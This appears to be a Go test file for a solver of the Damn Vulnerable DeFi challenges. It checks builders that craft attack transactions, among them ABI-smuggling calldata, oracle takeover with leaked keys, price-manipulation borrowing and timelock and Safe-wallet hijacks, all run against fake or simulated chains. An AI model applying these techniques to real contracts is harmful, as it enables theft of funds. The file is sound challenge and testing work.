package scenarios

import (
	"context"
	"fmt"
	"math/big"
	"strings"
	"testing"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/hexutil"
	"github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mjkid221/damn-vulnerable-defi/common/errs"
	"github.com/mjkid221/damn-vulnerable-defi/exploit"
	"github.com/mjkid221/damn-vulnerable-defi/ledger"
	"github.com/mjkid221/damn-vulnerable-defi/ledger/ledgertest"
	"github.com/mjkid221/damn-vulnerable-defi/payload"
	txmgr "github.com/mjkid221/damn-vulnerable-defi/txmgr/ethereum"
	"github.com/mjkid221/damn-vulnerable-defi/txstore"
)

const leakedResponse = "4d 48 68 6a 4e 6a 63 34 5a 57 59 78 59 57 45 30 4e 54 5a 6b 59 54 59 31 59 7a 5a 6d 59 7a 55 34 4e 6a 46 6b 4e 44 51 34 4f 54 4a 6a 5a 47 5a 68 59 7a 42 6a 4e 6d 4d 34 59 7a 49 31 4e 6a 42 69 5a 6a 42 6a 4f 57 5a 69 59 32 52 68 5a 54 4a 6d 4e 44 63 7a 4e 57 45 35 4d 48 67 79 4d 44 67 79 4e 44 4a 6a 4e 44 42 68 59 32 52 6d 59 54 6c 6c 5a 44 67 34 4f 57 55 32 4f 44 56 6a 4d 6a 4d 31 4e 44 64 68 59 32 4a 6c 5a 44 6c 69 5a 57 5a 6a 4e 6a 41 7a 4e 7a 46 6c 4f 54 67 33 4e 57 5a 69 59 32 51 33 4d 7a 59 7a 4e 44 42 69 59 6a 51 34"

func wei(s string) *big.Int {
	v, ok := new(big.Int).SetString(s, 10)
	if !ok {
		panic("bad number " + s)
	}
	return v
}

func tokens(n int64) *big.Int { return ether(n) }

/* -------------------------------------------------------------------------- */
/*                                 Fake ledger                                */
/* -------------------------------------------------------------------------- */

// fakeLedger answers the reads scenarios make while being built.
type fakeLedger struct {
	ledger.Ledger
	storage  map[common.Address]common.Hash
	balances map[common.Address]*big.Int
	tokens   map[[2]common.Address]*big.Int
}

func (f *fakeLedger) GetStorageAt(_ context.Context, account common.Address, slot common.Hash) (common.Hash, error) {
	if slot != ImplementationSlot {
		return common.Hash{}, nil
	}
	return f.storage[account], nil
}

func (f *fakeLedger) GetBalance(_ context.Context, account common.Address) (*big.Int, error) {
	if b, ok := f.balances[account]; ok {
		return b, nil
	}
	return new(big.Int), nil
}

func (f *fakeLedger) Call(_ context.Context, token common.Address, data []byte) ([]byte, error) {
	holder := common.BytesToAddress(data[4:36])
	v, ok := f.tokens[[2]common.Address{token, holder}]
	if !ok {
		v = new(big.Int)
	}
	return common.BigToHash(v).Bytes(), nil
}

/* -------------------------------------------------------------------------- */
/*                                   Helpers                                  */
/* -------------------------------------------------------------------------- */

func TestDecodeLeakedKeys(t *testing.T) {
	keys, err := DecodeLeakedKeys(leakedResponse)
	require.NoError(t, err)
	require.Len(t, keys, 2)

	assert.Equal(t, common.HexToAddress("0xe92401A4d3af5E446d93D11EEc806b1462b39D15"), crypto.PubkeyToAddress(keys[0].PublicKey))
	assert.Equal(t, common.HexToAddress("0x81A5D6E50C214044bE44cA0CB057fe119097850c"), crypto.PubkeyToAddress(keys[1].PublicKey))

	t.Run("not hex", func(t *testing.T) {
		_, err := DecodeLeakedKeys("zz 4d")
		assert.True(t, errs.IsKind(err, errs.ErrorTypeDecoding))
	})
	t.Run("not base64", func(t *testing.T) {
		_, err := DecodeLeakedKeys("21 21 21")
		assert.True(t, errs.IsKind(err, errs.ErrorTypeDecoding))
	})
}

func TestPricing(t *testing.T) {
	tests := []struct {
		name string
		got  *big.Int
		want *big.Int
	}{
		{"v1 dump 1000 into 10/10", TokenToEthInputPrice(tokens(1000), tokens(10), tokens(10)), wei("9900695134061569016")},
		{"v2 dump 10000 into 100/10", GetAmountOut(tokens(10000), tokens(100), tokens(10)), wei("9900695134061569016")},
		{"v1 deposit before dump", PuppetDepositRequired(tokens(1), tokens(10), tokens(10)), tokens(2)},
		{"v1 deposit after dump", PuppetDepositRequired(tokens(100000), wei("99304865938430984"), tokens(1010)), wei("19664329888798200000")},
		{"v2 deposit before dump", PuppetV2DepositRequired(tokens(1000000), tokens(100), tokens(10)), tokens(300000)},
		{"v2 deposit after dump", PuppetV2DepositRequired(tokens(1000000), tokens(10100), wei("99304865938430984")), wei("29496494833197321980")},
		{"empty reserve", Quote(tokens(1), new(big.Int), tokens(1)), new(big.Int)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, 0, tt.want.Cmp(tt.got), "got %s want %s", tt.got, tt.want)
		})
	}
}

func TestReadImplementation(t *testing.T) {
	proxy := common.HexToAddress("0x00000000000000000000000000000000000000a1")
	impl := common.HexToAddress("0x5FbDB2315678afecb367f032d93F642f64180aa3")
	l := &fakeLedger{storage: map[common.Address]common.Hash{proxy: common.BytesToHash(impl.Bytes())}}

	got, err := ReadImplementation(context.Background(), l, proxy)
	require.NoError(t, err)
	assert.Equal(t, impl, got)

	_, err = ReadImplementation(context.Background(), l, impl)
	assert.True(t, errs.IsKind(err, errs.ErrorTypeNotFound))
}

func TestLookup(t *testing.T) {
	assert.Equal(t, []string{
		"abi-smuggling", "backdoor", "climber", "compromised", "puppet",
		"puppet-v2", "truster", "unstoppable", "wallet-mining",
	}, Names())

	b, err := Lookup("puppet")
	require.NoError(t, err)
	assert.NotNil(t, b)

	_, err = Lookup("naive-receiver")
	assert.True(t, errs.IsKind(err, errs.ErrorTypeConfig))
}

/* -------------------------------------------------------------------------- */
/*                                  Scenarios                                 */
/* -------------------------------------------------------------------------- */

func TestABISmuggling(t *testing.T) {
	vault := common.HexToAddress("0xe7f1725E7734CE288F8367e1Bb143E90bb3F0512")
	token := common.HexToAddress("0x5FbDB2315678afecb367f032d93F642f64180aa3")
	recovery := common.HexToAddress("0x3C44CdDdB6a900fa2b585dd299e03d12FA4293BC")

	l := &fakeLedger{tokens: map[[2]common.Address]*big.Int{{token, vault}: tokens(1_000_000)}}
	cfg, err := ABISmuggling(context.Background(), Params{
		Ledger:    l,
		Player:    common.HexToAddress("0x70997970C51812dc3A010C7d01b50e0d17dc79C8"),
		Addresses: map[string]common.Address{"vault": vault, "token": token, "recovery": recovery},
	})
	require.NoError(t, err)
	require.Len(t, cfg.Steps, 1)
	require.Len(t, cfg.Postconditions, 3)
	assert.Contains(t, cfg.Postconditions[2].Name, "1000000000000000000000000")

	call := cfg.Steps[0].(*exploit.SubmitCall)
	data, err := call.Craft(&exploit.Env{Addresses: cfg.Addresses})
	require.NoError(t, err)

	word := func(hex string) string { return strings.Repeat("0", 64-len(hex)) + hex }
	want := "1cff79cd" +
		word("e7f1725e7734ce288f8367e1bb143e90bb3f0512") +
		word("80") +
		word("") +
		"d9caed12" + strings.Repeat("0", 56) +
		word("44") +
		"85fb709d" +
		word("3c44cdddb6a900fa2b585dd299e03d12fa4293bc") +
		word("5fbdb2315678afecb367f032d93f642f64180aa3")
	assert.Equal(t, want, common.Bytes2Hex(data))
}

func TestCompromised(t *testing.T) {
	addrs := map[string]common.Address{
		"exchange": common.HexToAddress("0x00000000000000000000000000000000000000e1"),
		"oracle":   common.HexToAddress("0x00000000000000000000000000000000000000e2"),
		"nft":      common.HexToAddress("0x00000000000000000000000000000000000000e3"),
	}
	p := Params{
		Player:    common.HexToAddress("0x70997970C51812dc3A010C7d01b50e0d17dc79C8"),
		ChainID:   big.NewInt(31337),
		Addresses: addrs,
		Secrets:   map[string]string{"leak": leakedResponse},
	}
	cfg, err := Compromised(context.Background(), p)
	require.NoError(t, err)
	require.Len(t, cfg.Steps, 9)

	first := cfg.Steps[0].(*exploit.SubmitCall)
	require.NotNil(t, first.From)
	assert.Equal(t, common.HexToAddress("0xe92401A4d3af5E446d93D11EEc806b1462b39D15"), first.From.From())
	data, err := first.Craft(&exploit.Env{})
	require.NoError(t, err)
	sel := payload.EncodeSelector("postPrice(string,uint256)")
	assert.Equal(t, sel[:], data[:4])

	buy := cfg.Steps[2].(*exploit.SubmitCall)
	assert.Nil(t, buy.From)
	assert.Equal(t, "0x6b5e2896", hexutil.Encode(buy.Data))
	assert.Equal(t, int64(10_000_000_000_000_000), buy.Value.Int64())

	t.Run("missing leak", func(t *testing.T) {
		p := p
		p.Secrets = nil
		_, err := Compromised(context.Background(), p)
		assert.True(t, errs.IsKind(err, errs.ErrorTypeConfig))
	})
}

func TestBoughtTokenID(t *testing.T) {
	exchange := common.HexToAddress("0x00000000000000000000000000000000000000e1")
	receipt := &ledger.Receipt{Logs: []*types.Log{
		{Address: common.HexToAddress("0x01"), Topics: []common.Hash{tokenBoughtTopic}, Data: common.BigToHash(big.NewInt(9)).Bytes()},
		{Address: exchange, Topics: []common.Hash{tokenBoughtTopic, common.BytesToHash([]byte{1})}, Data: append(common.BigToHash(big.NewInt(7)).Bytes(), make([]byte, 32)...)},
	}}
	id, err := boughtTokenID(receipt, exchange)
	require.NoError(t, err)
	assert.Equal(t, int64(7), id.Int64())

	_, err = boughtTokenID(&ledger.Receipt{}, exchange)
	assert.True(t, errs.IsKind(err, errs.ErrorTypeNotFound))
}

func TestPuppet(t *testing.T) {
	player := common.HexToAddress("0x70997970C51812dc3A010C7d01b50e0d17dc79C8")
	token := common.HexToAddress("0x00000000000000000000000000000000000000d1")
	exchange := common.HexToAddress("0x00000000000000000000000000000000000000d2")
	pool := common.HexToAddress("0x00000000000000000000000000000000000000d3")
	l := &fakeLedger{
		balances: map[common.Address]*big.Int{exchange: tokens(10)},
		tokens: map[[2]common.Address]*big.Int{
			{token, player}:   tokens(1000),
			{token, pool}:     tokens(100000),
			{token, exchange}: tokens(10),
		},
	}

	cfg, err := Puppet(context.Background(), Params{
		Ledger:    l,
		Player:    player,
		Addresses: map[string]common.Address{"token": token, "exchange": exchange, "pool": pool},
	})
	require.NoError(t, err)
	require.Len(t, cfg.Steps, 3)

	dump := cfg.Steps[1].(*exploit.SubmitCall)
	assert.Equal(t, wei("9900695134061569016"), new(big.Int).SetBytes(dump.Data[36:68]))

	borrow := cfg.Steps[2].(*exploit.SubmitCall)
	assert.Equal(t, wei("19664329888798200000"), borrow.Value)
	assert.Equal(t, tokens(100000), new(big.Int).SetBytes(borrow.Data[4:36]))
}

func TestPuppetV2(t *testing.T) {
	amounts := map[string]*big.Int{
		"player-tokens": tokens(10000),
		"pool-tokens":   tokens(1000000),
		"pair-tokens":   tokens(100),
		"pair-weth":     tokens(10),
	}
	addrs := map[string]common.Address{}
	for i, name := range []string{"token", "weth", "router", "pair", "pool"} {
		addrs[name] = common.BigToAddress(big.NewInt(int64(0xf0 + i)))
	}

	cfg, err := PuppetV2(context.Background(), Params{Addresses: addrs, Amounts: amounts})
	require.NoError(t, err)
	require.Len(t, cfg.Steps, 5)

	wrap := cfg.Steps[2].(*exploit.SubmitCall)
	assert.Equal(t, "wrap", wrap.Name)
	assert.Equal(t, wei("29496494833197321980"), wrap.Value)
	assert.Equal(t, "0xd0e30db0", hexutil.Encode(wrap.Data))

	amounts["pair-weth"] = new(big.Int)
	_, err = PuppetV2(context.Background(), Params{Addresses: addrs, Amounts: amounts})
	assert.True(t, errs.IsKind(err, errs.ErrorTypeValidation))

	_, err = PuppetV2(context.Background(), Params{Addresses: addrs})
	assert.True(t, errs.IsKind(err, errs.ErrorTypeConfig))
}

func TestWalletMiningOnSimulatedChain(t *testing.T) {
	ctx := context.Background()
	deployer := ledgertest.NewAccount(t)
	player := ledgertest.NewAccount(t)
	chain := ledgertest.NewChain(t, player)

	store := txstore.New()
	capture := func(label string, raw []byte) {
		_, err := store.Capture(raw, txstore.Metadata{Label: label, Source: "test"})
		require.NoError(t, err)
	}
	capture(FixtureSingleton, chain.Sign(t, deployer, 0, nil, nil, 200_000, ledgertest.ReturnFortyTwo))
	capture(FixtureFiller, chain.Sign(t, deployer, 1, &deployer.Address, nil, 21_000, nil))
	capture(FixtureFactory, chain.Sign(t, deployer, 2, nil, nil, 200_000, ledgertest.ReturnFortyTwo))

	fact := crypto.CreateAddress(deployer.Address, 2)
	addrs := map[string]common.Address{
		"wallet-deployer": common.HexToAddress("0x000000000000000000000000000000000000c001"),
		"authorizer":      common.HexToAddress("0x000000000000000000000000000000000000c002"),
		"authorizer-impl": common.HexToAddress("0x000000000000000000000000000000000000c003"),
		"token":           common.HexToAddress("0x000000000000000000000000000000000000c004"),
		"copy":            crypto.CreateAddress(deployer.Address, 0),
		"fact":            fact,
		"deposit":         crypto.CreateAddress(fact, 3),
	}

	cfg, err := WalletMining(ctx, Params{
		Ledger:    chain.Ledger,
		Store:     store,
		Player:    player.Address,
		Addresses: addrs,
		Amounts:   map[string]*big.Int{"deposit-tokens": big.NewInt(1)},
		Code: map[string][]byte{
			"token-exploiter":     ledgertest.ReturnFortyTwo,
			"authorizer-attacker": ledgertest.ReturnFortyTwo,
		},
	})
	require.NoError(t, err)

	var drop *exploit.Repeat
	for _, s := range cfg.Steps {
		if r, ok := s.(*exploit.Repeat); ok {
			drop = r
		}
	}
	require.NotNil(t, drop)
	assert.Equal(t, 3, drop.Times)
	require.Len(t, cfg.Postconditions, 6)
	assert.Contains(t, cfg.Postconditions[5].Name, ImplementationSlot.Hex())

	// The targets are plain accounts here, so only the deployments can be
	// checked afterwards.
	cfg.Postconditions = cfg.Postconditions[:2]
	cfg.Ledger = chain.Ledger
	cfg.Store = store
	cfg.Signer = txmgr.NewCallSigner(player.Key, chain.ChainID, ledgertest.GasPrice)

	res := exploit.RunExploit(ctx, *cfg)
	require.NoError(t, res.Err)
	assert.True(t, res.Success)
	assert.Equal(t, 3, exploit.CountState(res.Trace, exploit.StateReplaying))
	assert.Equal(t, 9, exploit.CountState(res.Trace, exploit.StateSubmitting))
	assert.Equal(t, addrs["deposit"], res.FinalState.Addresses["deposit"])
	assert.EqualValues(t, 9, res.FinalState.Accounts[player.Address].Nonce)
	assert.EqualValues(t, 3, res.FinalState.Accounts[deployer.Address].Nonce)

	t.Run("missing fixtures", func(t *testing.T) {
		_, err := WalletMining(ctx, Params{Store: txstore.New(), Addresses: addrs})
		assert.True(t, errs.IsKind(err, errs.ErrorTypeNotFound))
	})
}

func TestUnstoppable(t *testing.T) {
	token := common.HexToAddress("0x00000000000000000000000000000000000000b1")
	vault := common.HexToAddress("0x00000000000000000000000000000000000000b2")
	p := Params{
		Player:    common.HexToAddress("0x70997970C51812dc3A010C7d01b50e0d17dc79C8"),
		Addresses: map[string]common.Address{"token": token, "vault": vault},
		Amounts:   map[string]*big.Int{"player-tokens": tokens(10), "vault-tokens": tokens(1_000_000)},
	}
	cfg, err := Unstoppable(context.Background(), p)
	require.NoError(t, err)
	require.Len(t, cfg.Steps, 1)

	donate := cfg.Steps[0].(*exploit.SubmitCall)
	require.NotNil(t, donate.To)
	assert.Equal(t, "token", donate.To.Name)
	assert.Equal(t, vault, common.BytesToAddress(donate.Data[4:36]))
	assert.Equal(t, tokens(10), new(big.Int).SetBytes(donate.Data[36:68]))
	assert.Contains(t, cfg.Postconditions[0].Name, tokens(1_000_010).String())

	t.Run("nothing to donate", func(t *testing.T) {
		p := p
		p.Amounts = map[string]*big.Int{"player-tokens": new(big.Int), "vault-tokens": tokens(1)}
		_, err := Unstoppable(context.Background(), p)
		assert.True(t, errs.IsKind(err, errs.ErrorTypeValidation))
	})
}

func TestTruster(t *testing.T) {
	pool := common.HexToAddress("0x00000000000000000000000000000000000000c1")
	token := common.HexToAddress("0x00000000000000000000000000000000000000c2")
	player := common.HexToAddress("0x70997970C51812dc3A010C7d01b50e0d17dc79C8")
	l := &fakeLedger{tokens: map[[2]common.Address]*big.Int{{token, pool}: tokens(1_000_000)}}
	p := Params{
		Ledger:    l,
		Player:    player,
		Addresses: map[string]common.Address{"pool": pool, "token": token},
		Code:      map[string][]byte{"truster-attacker": {0x60, 0x80}},
	}
	cfg, err := Truster(context.Background(), p)
	require.NoError(t, err)
	require.Len(t, cfg.Steps, 2)

	deploy := cfg.Steps[0].(*exploit.SubmitCall)
	assert.Nil(t, deploy.To)
	assert.Equal(t, append([]byte{0x60, 0x80}, append(addressWord(pool), addressWord(token)...)...), deploy.Data)

	attack := cfg.Steps[1].(*exploit.SubmitCall)
	sel := payload.EncodeSelector("attack()")
	assert.Equal(t, sel[:], attack.Data)
	assert.Contains(t, cfg.Postconditions[1].Name, tokens(1_000_000).String())

	t.Run("missing attacker code", func(t *testing.T) {
		p := p
		p.Code = nil
		_, err := Truster(context.Background(), p)
		assert.True(t, errs.IsKind(err, errs.ErrorTypeConfig))
	})
}

func TestClimber(t *testing.T) {
	player := common.HexToAddress("0x70997970C51812dc3A010C7d01b50e0d17dc79C8")
	addrs := map[string]common.Address{
		"vault":    common.HexToAddress("0x00000000000000000000000000000000000000a1"),
		"token":    common.HexToAddress("0x00000000000000000000000000000000000000a2"),
		"timelock": common.HexToAddress("0x00000000000000000000000000000000000000a3"),
	}
	p := Params{
		Player:    player,
		Addresses: addrs,
		Amounts: map[string]*big.Int{
			"player-nonce":  big.NewInt(4),
			"vault-tokens":  tokens(10_000_000),
			"player-tokens": new(big.Int),
		},
		Code: map[string][]byte{
			"climber-vault-upgrade": {0x60, 0x01},
			"climber-scheduler":     {0x60, 0x02},
		},
	}
	cfg, err := Climber(context.Background(), p)
	require.NoError(t, err)
	require.Len(t, cfg.Steps, 8)

	upgrade, scheduler := crypto.CreateAddress(player, 4), crypto.CreateAddress(player, 5)
	assert.Equal(t, upgrade, cfg.Addresses["climber-vault-upgrade"])
	assert.Equal(t, scheduler, cfg.Addresses["climber-scheduler"])

	op, err := ClimberOperation(addrs["timelock"], addrs["vault"], upgrade, scheduler)
	require.NoError(t, err)
	assert.Equal(t, []common.Address{addrs["timelock"], addrs["timelock"], addrs["vault"], scheduler}, op.Targets)

	store := cfg.Steps[4].(*exploit.SubmitCall)
	execute := cfg.Steps[5].(*exploit.SubmitCall)
	sel := payload.EncodeSelector("execute(address[],uint256[],bytes[],bytes32)")
	assert.Equal(t, sel[:], execute.Data[:4])
	assert.Equal(t, "timelock", execute.To.Name)
	// both calls carry the same operation
	assert.Equal(t, execute.Data[4:], store.Data[4:])

	id, err := op.ID()
	require.NoError(t, err)
	assert.Equal(t, crypto.Keccak256Hash(execute.Data[4:]), id)

	require.Len(t, cfg.Postconditions, 4)
	assert.Contains(t, cfg.Postconditions[0].Name, common.Bytes2Hex(uintWord(operationExecuted)))
	assert.Contains(t, cfg.Postconditions[3].Name, tokens(10_000_000).String())

	t.Run("timelock from vault owner", func(t *testing.T) {
		p := p
		p.Addresses = map[string]common.Address{"vault": addrs["vault"], "token": addrs["token"]}
		l := &ownerLedger{owner: addrs["timelock"]}
		p.Ledger = l
		cfg, err := Climber(context.Background(), p)
		require.NoError(t, err)
		assert.Equal(t, addrs["timelock"], cfg.Addresses["timelock"])
		assert.Equal(t, addrs["vault"], l.asked)
	})
	t.Run("no timelock and no ledger", func(t *testing.T) {
		p := p
		p.Addresses = map[string]common.Address{"vault": addrs["vault"], "token": addrs["token"]}
		_, err := Climber(context.Background(), p)
		assert.True(t, errs.IsKind(err, errs.ErrorTypeConfig))
	})
}

// ownerLedger answers owner() for whatever contract is asked.
type ownerLedger struct {
	ledger.Ledger
	owner common.Address
	asked common.Address
}

func (o *ownerLedger) Call(_ context.Context, to common.Address, _ []byte) ([]byte, error) {
	o.asked = to
	return addressWord(o.owner), nil
}

func TestBackdoor(t *testing.T) {
	player := common.HexToAddress("0x70997970C51812dc3A010C7d01b50e0d17dc79C8")
	addrs := map[string]common.Address{
		"registry":          common.HexToAddress("0x00000000000000000000000000000000000000d1"),
		"factory":           common.HexToAddress("0x00000000000000000000000000000000000000d2"),
		"singleton":         common.HexToAddress("0x00000000000000000000000000000000000000d3"),
		"token":             common.HexToAddress("0x00000000000000000000000000000000000000d4"),
		"beneficiary-bob":   common.HexToAddress("0x00000000000000000000000000000000000000b0"),
		"beneficiary-alice": common.HexToAddress("0x00000000000000000000000000000000000000a0"),
	}
	creation := []byte{0x60, 0x80, 0x60, 0x40}
	p := Params{
		Player:    player,
		Addresses: addrs,
		Amounts: map[string]*big.Int{
			"player-nonce":    new(big.Int),
			"registry-tokens": tokens(20),
			"player-tokens":   new(big.Int),
		},
		Code: map[string][]byte{
			"backdoor-attacker":   {0x60, 0x03},
			"safe-proxy-creation": creation,
		},
	}
	cfg, err := Backdoor(context.Background(), p)
	require.NoError(t, err)

	attacker := crypto.CreateAddress(player, 0)
	approver := crypto.CreateAddress(attacker, 1)
	assert.Equal(t, attacker, cfg.Addresses["backdoor-attacker"])
	assert.Equal(t, approver, cfg.Addresses["approver"])

	proxyInit := SafeProxyInitCode(creation, addrs["singleton"])
	assert.Equal(t, addressWord(addrs["singleton"]), proxyInit[len(creation):])

	// beneficiaries are taken in name order
	for i, owner := range []common.Address{addrs["beneficiary-alice"], addrs["beneficiary-bob"]} {
		initializer, err := backdoorInitializer(owner, approver, addrs["token"], attacker)
		require.NoError(t, err)
		salt := SafeProxySalt(initializer, new(big.Int), addrs["registry"])
		want := crypto.CreateAddress2(addrs["factory"], salt, crypto.Keccak256(proxyInit))
		assert.Equal(t, want, cfg.Addresses[fmt.Sprintf("wallet-%d", i)])
	}

	require.Len(t, cfg.Steps, 5)
	deploy := cfg.Steps[4].(*exploit.SubmitCall)
	assert.Nil(t, deploy.To)
	assert.Equal(t, "approver-address", deploy.RequireAddress)
	assert.Equal(t, []byte{0x60, 0x03}, deploy.Data[:2])

	require.Len(t, cfg.Postconditions, 10)
	assert.Contains(t, cfg.Postconditions[8].Name, tokens(20).String())
	assert.Contains(t, cfg.Postconditions[9].Name, "nonce of")

	t.Run("no beneficiaries", func(t *testing.T) {
		p := p
		p.Addresses = map[string]common.Address{}
		for _, name := range []string{"registry", "factory", "singleton", "token"} {
			p.Addresses[name] = addrs[name]
		}
		_, err := Backdoor(context.Background(), p)
		assert.True(t, errs.IsKind(err, errs.ErrorTypeConfig))
	})
}

func TestSafeProxySalt(t *testing.T) {
	initializer := []byte{0xb6, 0x3e, 0x80, 0x0d}
	callback := common.HexToAddress("0x00000000000000000000000000000000000000d1")

	inner := crypto.Keccak256(append(common.BigToHash(big.NewInt(7)).Bytes(), callback.Bytes()...))
	want := crypto.Keccak256Hash(append(crypto.Keccak256(initializer), inner...))
	assert.Equal(t, want, SafeProxySalt(initializer, big.NewInt(7), callback))
	assert.NotEqual(t, want, SafeProxySalt(initializer, big.NewInt(8), callback))
}
